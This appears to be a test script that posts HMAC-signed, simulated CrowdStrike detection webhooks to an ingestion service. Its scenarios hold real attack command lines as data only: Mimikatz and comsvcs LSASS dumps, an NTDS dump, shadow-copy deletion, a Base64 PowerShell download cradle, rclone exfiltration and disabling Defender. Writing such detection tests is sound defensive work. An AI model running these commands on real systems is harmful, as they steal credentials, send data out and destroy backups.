#!/usr/bin/env bash
# Sends signed CrowdStrike detections to a running ingestion service, with bash, openssl and curl
# alone. `vyrox simulate` plays the same scenarios, and those of the other vendors.
set -euo pipefail
export LC_ALL=C # one character is one byte

usage() {
  cat <<'END'
Usage: simulate.sh [OPTIONS] SCENARIO

  Send SCENARIO's signed CrowdStrike detections to a running ingestion service.

  Each run sends new identifiers and times, so no detection counts as a
  redelivery.

Options:
  --list         List the scenarios and exit.
  --url URL      Webhook base: the part before /crowdstrike.  [VYROX_URL;
                 default: http://localhost:8001/webhook]
  --tenant ID    Tenant identifier.  [VYROX_TENANT_ID; default: acme-corp]
  --stage N      Send only this stage.  [default: 1]
  --all-stages   Send every stage, in order.
  --dry-run      Send nothing; print the request. Its last line, without the
                 line end, is the body as signed.
  --help         Show this message and exit.

  The HMAC secret is CROWDSTRIKE_WEBHOOK_SECRET or, if that is not set,
  VYROX_HMAC_SECRET. It signs the body and is not sent. There is no option for
  it, because other users of the machine can read a command line.

  A proxy from the environment is not used for localhost.

  Exits with 0 if every detection got 202, else with 1; with 2 for a usage
  error.
END
}

# The scenarios. A stage is: severity, tactic, technique, host, user, command line.
scenarios() {
  local workstation_01='workstation-01 12345678-1234-1234-1234-123456789abc'
  local workstation_07='workstation-07 5f0c7a1e-93b2-4d6a-8e21-0b7d4c9f6a35'
  local file_srv_02='file-srv-02 a3d918c4-6e70-4b5f-9c12-d84e2f7b1069'
  local dc_01='dc-01 c71b5e20-4a8d-4f39-b6e7-92d0a5c3f814'
  local jsmith='CORP\jsmith' admin='CORP\adm-mgarcia' system='NT AUTHORITY\SYSTEM'
  # IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/update.ps1')
  local encoded='SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'
  encoded+='LgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAx'
  encoded+='ADAAMAAuADIAMwAvAHUAcABkAGEAdABlAC4AcABzADEAJwApAA=='
  local download='powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass'
  download+=" -EncodedCommand $encoded"
  # Get-HotFix | Select-Object HotFixID
  local inventory='powershell.exe -NoProfile -NonInteractive -EncodedCommand '
  inventory+='RwBlAHQALQBIAG8AdABGAGkAeAAgAHwAIABTAGUAbABlAGMAdAAtAE8AYgBqAGUAYwB0ACAASABvAHQA'
  inventory+='RgBpAHgASQBEAA=='
  local health_scripts='C:\Windows\IMECache\HealthScripts'

  scenario mimikatz 'Mimikatz reads passwords out of LSASS memory'
  stage critical TA0006 T1003.001 "$workstation_01" "$jsmith" \
    'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit"'

  scenario ransomware 'Shadow copies deleted, recovery off, files encrypted'
  stage high TA0040 T1490 "$file_srv_02" "$system" \
    'vssadmin.exe delete shadows /all /quiet'
  stage high TA0040 T1490 "$file_srv_02" "$system" \
    'bcdedit.exe /set {default} recoveryenabled no'
  stage critical TA0040 T1486 "$file_srv_02" "$system" \
    'C:\ProgramData\winupd64.exe --path D:\Shares --threads 16 --ext .locked'

  scenario encoded-powershell 'Hidden PowerShell runs a Base64 command'
  stage high TA0002 T1059.001 "$workstation_01" "$jsmith" \
    "$download"

  scenario lateral-movement 'From a mailed document to the domain controller'
  stage medium TA0001 T1566.001 "$workstation_01" "$jsmith" \
    'WINWORD.EXE /n "C:\Users\jsmith\Downloads\Invoice 2291.docm"'
  stage high TA0002 T1059.001 "$workstation_01" "$jsmith" \
    "$download"
  stage medium TA0003 T1053.005 "$workstation_01" "$jsmith" \
    'schtasks.exe /create /tn UpdateCheck /tr C:\Temp\upd.exe /sc onlogon /ru SYSTEM'
  stage medium TA0007 T1069.002 "$workstation_01" "$system" \
    'net.exe group "Domain Admins" /domain'
  stage critical TA0006 T1003.001 "$workstation_01" "$system" \
    'rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 672 C:\Temp\upd.dmp full'
  stage high TA0008 T1021.002 "$workstation_01" "$admin" \
    'net.exe use \\file-srv-02\ADMIN$ /user:CORP\adm-mgarcia'
  stage high TA0008 T1021.006 "$file_srv_02" "$admin" \
    'powershell.exe -NoProfile Invoke-Command dc-01 -FilePath C:\Windows\Temp\ifm.ps1'
  stage critical TA0006 T1003.003 "$dc_01" "$admin" \
    'ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\ifm" q q'

  scenario ransomware-precursor 'The hour before files are encrypted'
  stage medium TA0007 T1482 "$file_srv_02" "$admin" \
    'nltest.exe /domain_trusts /all_trusts'
  stage high TA0005 T1562.001 "$file_srv_02" "$admin" \
    'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true'
  stage medium TA0010 T1567.002 "$file_srv_02" "$admin" \
    'C:\ProgramData\rclone.exe copy D:\Shares mega:acme --transfers 16 --max-age 2y'
  stage medium TA0040 T1489 "$file_srv_02" "$system" \
    'cmd.exe /c net stop VeeamBackupSvc /y & net stop MSSQLSERVER /y & net stop vss /y'
  stage high TA0040 T1490 "$file_srv_02" "$system" \
    'wbadmin.exe delete catalog -quiet'

  scenario software-deployment 'Benign: SCCM and Intune run scripts'
  stage low TA0002 T1059.001 "$workstation_07" "$system" \
    'powershell.exe -ExecutionPolicy Bypass -File C:\Windows\ccmcache\1a\Install.ps1'
  stage medium TA0005 T1218.007 "$workstation_07" "$system" \
    'msiexec.exe /i C:\Windows\ccmcache\2c\viewer-24.2-x64.msi /qn /norestart'
  stage medium TA0002 T1059.001 "$workstation_07" "$system" \
    "$inventory"
  stage medium TA0002 T1059.001 "$workstation_07" "$system" \
    'powershell.exe -NoProfile -executionPolicy bypass -file '"$health_scripts"\
'\8f0b6a1e-52c7-4d39-9e84-1b7c3a5d2f60_1\detect.ps1'
}

names=() descriptions=() counts=() # of every scenario
fields=()                          # of the chosen one: six for each stage

scenario() {
  names+=("$1") descriptions+=("$2") counts+=(0)
}

stage() {
  local last=$((${#names[@]} - 1))
  counts[last]=$((counts[last] + 1))
  if [[ ${names[last]} == "$chosen" ]]; then fields+=("$@"); fi
}

list_scenarios() {
  local row='%-20s  %-11s  %-6s  %s\n' i
  printf "$row" NAME VENDOR STAGES DESCRIPTION
  for ((i = 0; i < ${#names[@]}; i++)); do
    printf "$row" "${names[i]}" crowdstrike "${counts[i]}" "${descriptions[i]}"
  done
}

fail_usage() {
  printf 'Error: %s\n' "$1" >&2
  exit 2
}

# Prints printable ASCII as a JSON string.
json_string() {
  local i character quoted=''
  for ((i = 0; i < ${#1}; i++)); do
    character=${1:i:1}
    case $character in \" | \\) quoted+=\\ ;; esac
    quoted+=$character
  done
  printf '"%s"' "$quoted"
}

# Prints the SHA-256 of standard input in hex.
sha256() {
  local line
  line=$(openssl dgst -sha256 -r) || return 1
  printf '%s' "${line:0:64}"
}

# Prints the bytes that $1 spells in hex, each XORed with $2.
unhex() {
  local i byte
  for ((i = 0; i < ${#1}; i += 2)); do
    printf -v byte '%02x' $((16#${1:i:2} ^ $2))
    printf '%b' "\\x$byte"
  done
}

# Prints HMAC-SHA256 (RFC 2104) of $1 under the key $2 in hex. Not `openssl dgst -hmac`: that takes
# the key as an argument, for every user of the machine to read. Here it never leaves the shell.
hmac_sha256() {
  local key='' i byte inner
  if ((${#2} > 64)); then
    key=$(printf '%s' "$2" | sha256)
  else
    for ((i = 0; i < ${#2}; i++)); do
      printf -v byte '%02x' "'${2:i:1}"
      key+=${byte: -2} # a byte above 127 comes out with its sign
    done
  fi
  while ((${#key} < 128)); do key+=00; done
  inner=$({ unhex "$key" 0x36 && printf '%s' "$1"; } | sha256)
  { unhex "$key" 0x5c && unhex "$inner" 0; } | sha256
}

# Sets `body` to the detection of stage $1: sorted keys, no white space.
build_body() {
  local at=$((($1 - 1) * 6)) detected_at program values=() value
  detected_at=$(date +%s)
  set -- "${fields[@]:at:6}"
  program=${6%% *}
  program=${program##*\\}
  for value in "$tenant" "evt:$detected_at:$(openssl rand -hex 6)" \
    "$6" "$program" "$(printf 'vyrox-simulator:%s' "$program" | sha256)" "$5" \
    "${4#* }" "${4% *}" "$1" "$2" "$3"; do
    values+=("$(json_string "$value")")
  done
  local json='{"customer_id":%s,"detect_id":%s,"process":{"command_line":%s,"file_name":%s,'
  json+='"sha256":%s,"user_name":%s},"sensor":{"agent_id":%s,"hostname":%s},"severity":%s,'
  json+='"tactic":%s,"technique":%s,"timestamp":%s}'
  printf -v body "$json" "${values[@]}" "$detected_at"
}

# Posts `body` and prints the result. Fails unless the response is a documented 202.
send() {
  local answer status pattern='"(alert_id|detail)": ?"([^"]*)"' text=''
  answer=$(printf '%s' "$body" | curl -sS --max-time 10 ${direct:+--noproxy "$direct"} \
    -H 'Content-Type: application/json' \
    -H "X-Vyrox-Signature: $signature" --data-binary @- -w '\n%{http_code}' "$url") || return 1
  status=${answer##*$'\n'}
  if [[ ${answer%$'\n'*} =~ $pattern ]]; then
    # The server may be another one: no control characters reach the terminal.
    text="${BASH_REMATCH[1]} ${BASH_REMATCH[2]//[![:print:]]/?}"
  fi
  if [[ $status == 202 && $text == 'alert_id '* ]]; then
    printf 'stage %s: 202 queued %s\n' "$1" "${text#* }"
  elif [[ $status != 202 && $text == 'detail '* ]]; then
    printf 'Error: stage %s: %s %s\n' "$1" "$status" "${text#* }" >&2
    return 1
  else
    printf 'Error: stage %s: %s %s\n' "$1" "$status" \
      'not a response of Vyrox: is --url the webhook base?' >&2
    return 1
  fi
}

chosen='' number='' all=false dry_run=false list=false
url=${VYROX_URL:-http://localhost:8001/webhook}
tenant=${VYROX_TENANT_ID:-acme-corp}
while (($# > 0)); do
  case $1 in
    --*=*) set -- "${1%%=*}" "${1#*=}" "${@:2}" && continue ;;
    --list) list=true ;;
    --all-stages) all=true ;;
    --dry-run) dry_run=true ;;
    --help) usage && exit ;;
    --url | --tenant | --stage)
      (($# > 1)) || fail_usage "$1 requires an argument"
      case $1 in --url) url=$2 ;; --tenant) tenant=$2 ;; --stage) number=$2 ;; esac
      shift
      ;;
    -*) fail_usage "no such option: ${1}; see --help" ;;
    *)
      [[ -z $chosen ]] || fail_usage "one scenario at a time, not also '$1'"
      chosen=$1
      ;;
  esac
  shift
done

scenarios
if $list; then list_scenarios && exit; fi

[[ -n $chosen ]] || fail_usage 'missing SCENARIO; see --list and --help'
stages=$((${#fields[@]} / 6))
((stages > 0)) || fail_usage "'$chosen' is not one of: ${names[*]}"
[[ $url =~ ^https?://[^/?#@[:space:]]+(/[^?#[:space:]]*)?$ ]] ||
  fail_usage '--url (VYROX_URL) must be an http:// or https:// URL, the part before /crowdstrike'
direct='' loopback='^https?://(([^/:]+\.)?localhost|127\.[0-9.]+|0\.0\.0\.0|\[::1?\])([:/]|$)'
if [[ $url =~ $loopback ]]; then direct='*'; fi # no proxy, for any host
url=${url%/}/crowdstrike
[[ $tenant =~ ^[A-Za-z0-9._-]{1,128}$ && $tenant != . && $tenant != .. ]] || fail_usage \
  '--tenant (VYROX_TENANT_ID) must be 1 to 128 letters, digits, dots, underscores and hyphens'
if [[ -n $number ]]; then
  if $all; then fail_usage 'give either --stage or --all-stages'; fi
  if ! [[ $number =~ ^[1-9][0-9]{0,2}$ ]] || ((number > stages)); then
    fail_usage "--stage: $chosen has $stages stage(s), not $number"
  fi
fi
for tool in openssl curl; do
  command -v "$tool" >/dev/null || { echo "Error: needs $tool" >&2 && exit 1; }
done
# Only for scenarios that are signed, as all here are: never as a bearer token.
secret=${CROWDSTRIKE_WEBHOOK_SECRET:-${VYROX_HMAC_SECRET:-}}
[[ -n $secret ]] || fail_usage 'no secret: set CROWDSTRIKE_WEBHOOK_SECRET or VYROX_HMAC_SECRET'
[[ $secret != [[:space:]]* && $secret != *[[:space:]] ]] || fail_usage \
  'CROWDSTRIKE_WEBHOOK_SECRET or VYROX_HMAC_SECRET must not begin or end with white space'

first=${number:-1} last=${number:-1}
if $all; then last=$stages; fi
for ((n = first; n <= last; n++)); do
  build_body "$n"
  signature=sha256=$(hmac_sha256 "$body" "$secret")
  if $dry_run; then
    if ((n > first)); then echo; fi
    printf '%s\n' "POST $url" 'Content-Type: application/json' \
      "X-Vyrox-Signature: $signature" '' "$body"
  else
    send "$n" || exit 1
  fi
done
if ((stages > 1)) && [[ -z $number ]] && ! $all; then
  printf '%s has %s stages, and this was the first: see --stage and --all-stages\n' \
    "$chosen" "$stages" >&2
fi
